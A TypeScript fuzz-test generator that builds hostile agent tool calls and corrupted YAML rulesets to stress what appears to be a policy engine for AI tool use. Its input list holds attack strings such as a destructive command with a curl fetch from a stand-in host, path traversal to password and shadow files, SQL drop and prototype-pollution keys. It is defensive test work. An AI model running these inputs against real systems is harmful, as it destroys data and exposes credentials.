import fc from 'fast-check'
import { stringify } from 'yaml'
import type { JsonValue } from '../src/index.ts'
import { rulesetData } from './generate.ts'

/** Texts that have broken readers, shells, patterns and terminals. */
const nasty = fc.constantFrom(
  '',
  '\0',
  '\ud800',
  '\u202Egnp.exe',
  '\uFEFF',
  '\r\n',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'rm -rf / ; $(curl evil.test)',
  "ls '",
  'ls "/srv',
  '../../../../etc/passwd',
  '/srv/%2e%2e/%2e%2e/etc/passwd',
  '%%%%252e%',
  '~root/.ssh',
  'https://user:pw@evil.test\\@example.com/',
  'file:///etc/shadow',
  'http://[::1]:99999/',
  'data:text/html,x',
  'x'.repeat(2_000),
  `${'a'.repeat(40)}!`,
  '(a+)+$',
  '{args.command}{args.command}',
  '-----BEGIN',
  '1e999',
  'DROP TABLE users',
  '\u212A\u017F',
)
const number = fc.constantFrom(0, -0, 1e308, -1, 2 ** 53, 0.1, Number.MIN_VALUE)

function nested(depth: number): JsonValue {
  let value: JsonValue = 'x'
  for (let level = 0; level < depth; level += 1) value = level % 2 === 0 ? [value] : { x: value }
  return value
}

const value: fc.Arbitrary<JsonValue> = fc.oneof(
  { weight: 5, arbitrary: nasty },
  // What the generated rules look for, so that some of them fire.
  { weight: 5, arbitrary: fc.constantFrom('rm -rf /', 'git status', '/etc/passwd', 'hello', 'admin', 12) },
  { weight: 2, arbitrary: number },
  fc.constantFrom<JsonValue>(null, true, false, [], {}),
  fc.constantFrom(2, 60, 3_000).map(nested),
  fc.array(nasty, { maxLength: 4 }),
  fc.jsonValue({ maxDepth: 3 }) as fc.Arbitrary<JsonValue>,
)

/** Own keys such as `__proto__` can only come from JSON. */
function fromJson(entries: readonly (readonly [string, JsonValue])[]): { readonly [key: string]: JsonValue } {
  const made: Record<string, JsonValue> = Object.create(null)
  for (const [key, one] of entries)
    Object.defineProperty(made, key, { value: one, enumerable: true, configurable: true })
  return made
}

const keys = fc.constantFrom(
  'command',
  'path',
  'url',
  'q',
  'n',
  'deep',
  '__proto__',
  'constructor',
  'toString',
  '',
  'cwd',
  'a.b',
)

export const hostileCall = fc.record({
  tool: fc.oneof(fc.constantFrom('Bash', 'Read', 'Fetch', 'mcp_db', 'Write'), nasty),
  args: fc.array(fc.tuple(keys, value), { maxLength: 6 }).map(fromJson),
  environment: fc.constantFrom('prod', 'staging', '\0'),
  principal: fc.option(
    fc.record({ role: nasty, claims: fc.array(fc.tuple(keys, value), { maxLength: 2 }).map(fromJson) }),
  ),
  metadata: fc.array(fc.tuple(keys, value), { maxLength: 2 }).map(fromJson),
})

type Mutation = (text: string, at: number) => string

const insert =
  (piece: string): Mutation =>
  (text, at) =>
    text.slice(0, at) + piece + text.slice(at)
const lineAt: Mutation = (text, at) => {
  const end = text.indexOf('\n', at)
  return end === -1 ? text : text.slice(0, end) + text.slice(text.lastIndexOf('\n', at), end) + text.slice(end)
}
const valueAt =
  (piece: string): Mutation =>
  (text, at) => {
    const colon = text.indexOf(': ', at)
    const end = text.indexOf('\n', colon)
    return colon === -1 || end === -1 ? text : `${text.slice(0, colon + 2)}${piece}${text.slice(end)}`
  }

const mutations: readonly Mutation[] = [
  (text, at) => text.slice(0, at) + text.slice(at + 1),
  (text, at) => text.slice(0, at),
  (text, at) => text.slice(0, at) + text.slice(at + 40),
  lineAt,
  ...[
    '\t',
    '\0',
    '\u2028',
    '[',
    '}',
    '&a ',
    '*a',
    '!!python/object ',
    '? ',
    '<<: ',
    '- ',
    ': ',
    '#',
    '"',
    "'",
    '\uFEFF',
  ].map(insert),
  ...['null', '[]', '{}', '"\\ud800"', '.nan', '1e999', '*nobody', '|', '"__proto__"', 'yes', '2001-01-01', '0x10'].map(
    valueAt,
  ),
  (text) => text.replaceAll('tool:', '__proto__:'),
  (text) => text.replace('kind: Ruleset', 'kind: ContractBundle'),
  (text) => `${text}---\n${text}`,
  (text) => text.replaceAll('\n', '\r\n'),
  (text) => text.replaceAll('Stopped', '😀'.repeat(300)),
]

/** Data whose texts are nasty, but which is a ruleset all the same. */
function withNastyTexts(data: Record<string, unknown>, texts: readonly string[]): Record<string, unknown> {
  let next = 0
  const pick = (): string => texts[(next += 1) % texts.length] ?? ''
  return JSON.parse(
    JSON.stringify(data, (key, one: unknown) => {
      if (['equals', 'not_equals', 'contains', 'starts_with', 'ends_with'].includes(key))
        return pick().replaceAll('\0', '').toWellFormed()
      return one
    }),
  ) as Record<string, unknown>
}

/** Rules that a nasty call meets whatever it is called, put behind the others in most documents. */
const wide = [
  { id: 'wide-box', type: 'sandbox', tools: ['*'], within: ['/srv'], allows: { commands: ['ls'] }, message: 'Outside' },
  {
    id: 'wide-command',
    type: 'pre',
    tool: '*',
    when: { any: [{ 'args.command': { matches: '[^a-z]' } }, { 'args.n': { gt: 3 } }] },
    then: { action: 'block', message: 'No {args.command} {args.__proto__}' },
  },
]

/** Documents before they are broken: rulesets, some with nasty texts in them. */
export const hostileBase: fc.Arbitrary<string> = fc
  .record({
    // Small ones: reading YAML is what the time goes into, and each break is met as often.
    data: rulesetData(1),
    texts: fc.option(fc.array(nasty, { minLength: 1, maxLength: 4 })),
    isWide: fc.constantFrom(true, true, false),
  })
  .map(({ data, texts, isWide }) => {
    const rules = data['rules'] as readonly unknown[]
    const whole = isWide ? { ...data, rules: [...rules, ...wide] } : data
    return stringify(texts ? withNastyTexts(whole, texts) : whole)
  })

/** Up to three breaks: which, and where, as a share of the text. */
export const breaks = fc.array(
  fc.tuple(fc.nat({ max: mutations.length - 1 }), fc.double({ min: 0, max: 1, noNaN: true })),
  { maxLength: 3 },
)

export function broken(text: string, by: readonly (readonly [number, number])[]): string {
  return by.reduce((before, [which, where]) => {
    return mutations[which]?.(before, Math.floor(where * before.length)) ?? before
  }, text)
}
